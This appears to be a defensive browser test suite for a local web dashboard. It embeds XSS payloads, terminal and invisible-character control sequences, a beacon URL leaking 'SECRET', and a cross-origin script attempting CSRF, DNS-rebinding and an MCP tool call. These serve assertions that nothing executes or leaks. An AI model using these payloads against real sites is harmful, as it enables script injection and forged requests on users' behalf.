"""What others wrote, and other sites: in a real browser nothing of it acts, and nothing leaves it."""

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, Response, expect

from holdfast.web.drawer import VIEWS
from holdfast.web.screens import SCREENS, TABS
from tests.cli.project import Project
from tests.cli.tickets import block, edit, finish, repository, script, ticket, worked
from tests.mcp.listening import listening
from tests.web.conftest import Visit
from tests.web.site import Site, listener

TRICKS = (
    "<img src=x onerror=alert(1)>",
    "</script><svg onload=alert(2)>",
    "</textarea></pre><script>alert(3)</script>",
    "[click](javascript:alert(4))",
    "[data](data:text/html,<script>alert(5)</script>)",
    "<iframe srcdoc='<script>alert(6)</script>'></iframe>",
    "{{7*7}}${7*7}{% raw %}",
    "<a hx-get=/ hx-trigger=load onclick=alert(7)>x</a>",
    "<base href=http://127.0.0.1:9/><meta http-equiv=refresh content='0;url=http://127.0.0.1:9/'>",
    "<style>body{display:none}</style><link rel=stylesheet href=http://127.0.0.1:9/>",
    "<form action=http://127.0.0.1:9/><button>y</button></form>",
)
CONTROLS = {
    "\x1b[2J": "\\u{1b}[2J",
    "\x1b]0;title\x07": "\\u{1b}]0;title\\u{7}",
    "\x1b]52;c;aGVsZA==\x07": "\\u{1b}]52;c;aGVsZA==\\u{7}",
    "\x1b]8;;http://127.0.0.1:9/\x07link": "\\u{1b}]8;;http://127.0.0.1:9/\\u{7}link",
    "\x9b31m": "\\u{9b}31m",
    "over\rwritten": "over\\u{d}written",
    "\u202egnp.exe": "\\u{202e}gnp.exe",
    "ze\u200bro": "ze\\u{200b}ro",
    "tag\U000e0041": "tag\\u{e0041}",
}


def _hostile(project: Project, port: int) -> None:
    """A run with tricks in the name of the line, ids of items, files, output, logs, feedback, reasons."""
    beacon = f"![x](http://127.0.0.1:{port}/?q=SECRET) <img src=http://127.0.0.1:{port}/i>"
    project.write("evil.txt", "\n".join([*TRICKS, beacon, *CONTROLS]))
    text = "\n".join([*TRICKS, beacon])
    project.write("before.md", f"# old\n{beacon}\n")
    item = TRICKS[0]
    project.plan(
        {
            "prose": {
                "shell": "cat before.md evil.txt > '<img src=x onerror=alert(8)>.md'",
                "produces": "<img src=x onerror=alert(8)>.md",
                "description": text,
                "inputs": ["evil.txt", "before.md"],
            },
            "each": {
                "for_each": [item],
                "with": {"v": "${{ item }}"},
                "shell": "cat $HOLDFAST_WITH/v; cat evil.txt >&2",
            },
            "judged": {
                "shell": "cat evil.txt; cat evil.txt >&2; date +%N",
                "retries": 1,
                "guards": [{"command": ["sh", "-c", "cat evil.txt; false"], "name": TRICKS[0]}],
            },
            "ask": {"uses": "human", "prompt": text},
            "ship": {"run": ["echo", text], "approve": "always", "with": {"x": text}},
        },
        name=TRICKS[0],
        goal=text,
    )
    project.run("--yes", "-s", "prose")
    project.write("before.md", f"# other\n{beacon}\n{TRICKS[1]}\n")  # so that there is a difference
    project.run("--yes")
    project.call("reject", "ship", "--because", TRICKS[1])
    _ticket(project, text)


def _ticket(project: Project, text: str) -> None:
    """The same in the words of a ticket, in what a model says of it, and in the file that it edits."""
    name, signs = "<svg onload=alert(9)>.txt", "\n".join(CONTROLS)
    repository(project, {name: "a\n"})
    words = f"---\nid: sly\nacceptance: [{json.dumps(TRICKS[0])}]\n---\n# {TRICKS[1]}\n\n{text}\n{signs}\n"
    played = script(
        project,
        [
            edit(block(name, "a\n", f"{text}\n{signs}\n")),
            finish(summary=f"{TRICKS[0]} {text} {signs}"),
        ],
    )
    found = worked(project, ticket(project, words), "--unverified", "--script", played)
    assert found["exit"] == 0, found["err"]


@pytest.mark.req("D30", "D36")
def test_nothing_that_others_wrote_acts_on_the_page(
    project: Project, site: Callable[..., Site], visit: Visit
) -> None:
    with listener() as (port, seen):
        _hostile(project, port)
        found = site()
        page = visit.open(found)
        expect(page.locator("tbody")).to_contain_text(TRICKS[0])
        rows = project.ok("history", "--all", "--json").json["runs"]
        lines = [*dict.fromkeys(row["line"] for row in rows)]
        assert len(lines) >= 2, "the plan's, and the ticket's"
        first = (row["run"] for row in rows if TRICKS[0] in row["line"])
        run = next(one for one in first if project.status(one).states["judged"] == "failed")
        shown = ""
        for row in rows:
            states = project.status(row["run"]).states
            steps = [step for step, state in states.items() if state != "skipped"]
            page.goto(f"{found.base}/runs/{row['run']}?open=each")
            _is_tame(page)
            for step in steps:
                for view, _ in VIEWS:
                    path = f"/runs/{row['run']}/step?step={_quoted(step)}&view={view}"
                    page.evaluate("(path) => htmx.ajax('GET', path, '#drawer')", path)
                    _is_tame(page)
                    shown += page.locator("#drawer").inner_text()
            for tab in TABS:
                page.goto(f"{found.base}/runs/{row['run']}{tab.path}")
                expect(page.locator("h1")).to_be_visible()
                _is_tame(page)
                shown += page.locator("main").inner_text()
        for trick in (*TRICKS, "<svg onload=alert(9)>.txt", "<img src=x onerror=alert(8)>.md"):
            assert trick in shown, trick
        drawer = page.locator("#drawer")
        page.goto(f"{found.base}/runs/{run}?step=judged&view=attempts")
        for sign in CONTROLS.values():
            expect(drawer).to_contain_text(sign)
        for trick in TRICKS:
            expect(drawer).to_contain_text(trick)
        page.goto(f"{found.base}/runs/{run}?step=prose&view=result")
        expect(drawer).to_contain_text(f"http://127.0.0.1:{port}/?q=SECRET")
        for path, _ in SCREENS:
            page.goto(found.base + path)
            expect(page.locator("h1")).to_be_visible()
            _is_tame(page)
        page.goto(f"{found.base}/approvals")
        expect(page.locator("[data-card]").first).to_contain_text("waits for")
        _is_tame(page)
        page.goto(f"{found.base}/?q={_quoted(TRICKS[0])}")
        page.goto(f"{found.base}/{_quoted(TRICKS[0])}")
        expect(page.locator("main")).to_contain_text("there is no page")
        visit.faults = [one for one in visit.faults if "404" not in one]
        visit.clean(found)
        assert seen == [], "nothing was asked for outside of the page"


def _quoted(text: str) -> str:
    return quote(text, safe="")


TAME = """() => {
  const wrong = [], own = (address) => new URL(address, location.href).origin === location.origin;
  const hiding = /[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u200b-\\u200f\\u202a-\\u202e]/;
  const acting = /^(iframe|base|object|embed|style|img|image|frame|video|audio|foreignObject)$/i;
  for (const one of document.querySelectorAll("*")) {
    if (acting.test(one.tagName)) wrong.push(one.outerHTML);
    for (const {name, value} of one.attributes) {
      if (/^on|^style$/i.test(name)) wrong.push(name + "=" + value);
      if (/^(href|src|action)$/.test(name) && !/^[/#]/.test(value)) wrong.push(name + "=" + value);
      if (hiding.test(value)) wrong.push("hides: " + value);
    }
  }
  if (hiding.test(document.documentElement.textContent)) wrong.push("hides");
  for (const one of document.scripts)
    if (one.text || !one.src.startsWith(location.origin + "/static/")) wrong.push(one.outerHTML);
  if ([...document.forms].some((one) => !own(one.action))) wrong.push("form");
  return wrong;
}"""


def _is_tame(page: Page) -> None:
    """No element or attribute is there that acts but our own, and no sign that hides."""
    assert page.evaluate(TAME) == []


@contextmanager
def _evil_site(script: str) -> Iterator[int]:
    """Another site on this machine that runs a script of its own in whoever opens it."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = f"<!doctype html><title>evil</title><script>{script}</script>".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - its name above
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


SCRIPT = """
const got = [];
const paths = ["/", "/approvals", "/door/token", "/static/page.js", "/live/runs", "/runs/r-"];
async function read(address, how) {
  try {
    const text = await (await fetch(address, how)).text();
    if (text) got.push([address, how, text.slice(0, 80)]);
  } catch (error) {}
}
const settled = (make) => new Promise(make);
async function tries(base) {
  for (const path of paths)
    for (const mode of ["cors", "no-cors", "same-origin"])
      for (const credentials of ["include", "omit"]) await read(base + path, {mode, credentials});
  const post = {method: "POST", credentials: "include", body: BODY};
  const headers = {"Content-Type": "application/json", "X-Holdfast-Token": "x"};
  await read(base + "/approvals/decide", {...post, headers});
  const call = {method: "POST", body: CALL};
  for (const token of ["", "Bearer x"]) {
    const more = {"Content-Type": "application/json", "Authorization": token};
    await read(base + "/mcp", {...call, headers: {...more, "Accept": "application/json, text/event-stream"}});
  }
  await read(base + "/mcp", {...call, mode: "no-cors", headers: {"Content-Type": "text/plain"}});
  for (const type of ["text/plain", "application/x-www-form-urlencoded"])
    await read(base + "/approvals/decide", {...post, mode: "no-cors", headers: {"Content-Type": type}});
  for (const path of ["/live/runs", "/mcp"]) await settled((done) => {
    const wire = new WebSocket(base.replace("http", "ws") + path);
    wire.onopen = () => { got.push(["ws", base]); done(); };
    wire.onerror = done;
  });
  await settled((done) => {
    const stream = new EventSource(base + "/live/runs", {withCredentials: true});
    stream.onopen = () => { got.push(["sse", base]); stream.close(); done(); };
    stream.onerror = () => { stream.close(); done(); };
  });
  await settled((done) => {
    const script = document.createElement("script");
    script.src = base + "/static/htmx.min.js";
    script.onload = () => { got.push(["script", base]); done(); };
    script.onerror = done;
    document.head.append(script);
  });
  await settled((done) => {
    const frame = document.createElement("iframe");
    frame.src = base + "/approvals";
    frame.onload = () => {
      try { if (frame.contentDocument.body.innerText.includes("Approvals")) got.push(["frame", base]); }
      catch (error) {}
      done();
    };
    document.documentElement.append(frame);
  });
}
window.start = async (bases) => { for (const base of bases) await tries(base); return got; };
"""


ADDS = {
    "jsonrpc": "2.0",
    "id": 1,
    "method": "tools/call",
    "params": {"name": "ledger_add", "arguments": {"kind": "gap", "text": "from elsewhere"}},
}


@pytest.mark.req("D29")
def test_other_sites_get_nothing_not_even_by_a_name_that_points_here(
    project: Project, site: Callable[..., Site], browser: Browser
) -> None:
    """Two pages are loaded by a name from ports where, afterwards, ours listen: so to the browser all that
    they ask for then is of their own origin, and nothing but the server stands in their way.
    """
    project.plan({"out": {"shell": project.sh(), "approve": "always"}})
    assert project.run().code == 3
    asked = project.ok("approvals", "--json").json["approvals"][0]
    body = {name: asked[name] for name in ("run", "approval", "subject")} | {"answer": "yes"}
    script = SCRIPT.replace("BODY", json.dumps(json.dumps(body)))
    script = script.replace("CALL", json.dumps(json.dumps(ADDS)))
    context = browser.new_context()
    try:
        first, second = (_loaded(context, script) for _ in range(2))
        found = site("--port", str(first.port))
        with listening(project, "--port", str(second.port)) as agents:
            assert (found.port, agents.port) == (first.port, second.port)
            before = _journals(project)
            page = context.new_page()
            page.goto(found.address)
            expect(page.locator("tbody tr")).to_have_count(1)
            names = [f"http://127.0.0.1:{one.port}" for one in (first, second)]
            names += [f"http://rebind.test:{one.port}" for one in (first, second)]
            with _evil_site(script) as port:
                for name in ("127.0.0.1", "localhost"):
                    evil = context.new_page()
                    evil.goto(f"http://{name}:{port}/")
                    assert evil.evaluate("(bases) => start(bases)", names) == [], name
                    evil.close()
            for one in (first, second):
                assert one.page.evaluate("(bases) => start(bases)", names) == []
                assert len(one.heard) > 10, "it did ask"
                assert set(one.heard) == {421}
            direct = context.new_page()
            with pytest.raises(Error, match="RESPONSE_CODE_FAILURE"):  # there is nothing to show
                direct.goto(f"http://rebind.test:{found.port}/")
            assert _journals(project) == before
    finally:
        context.close()
    states = [one["state"] for one in project.ok("approvals", "--json").json["approvals"]]
    assert states == ["open"]


class _Loaded:
    """A page of another site, and how whoever listens at its origin now answers it."""

    def __init__(self, page: Page, port: int) -> None:
        self.page = page
        self.port = port
        self.heard: list[int] = []
        page.on("response", self._hear)

    def _hear(self, answer: Response) -> None:
        if answer.url.startswith(f"http://rebind.test:{self.port}/"):
            self.heard.append(answer.status)


def _loaded(context: BrowserContext, script: str) -> _Loaded:
    """Load a page from a site that is gone afterwards."""
    page = context.new_page()
    with _evil_site(script) as port:
        page.goto(f"http://rebind.test:{port}/")
    return _Loaded(page, port)


def _journals(project: Project) -> list[object]:
    with closing(project.database()) as store:
        return list(store.execute("SELECT name, last, hash FROM journal ORDER BY name"))
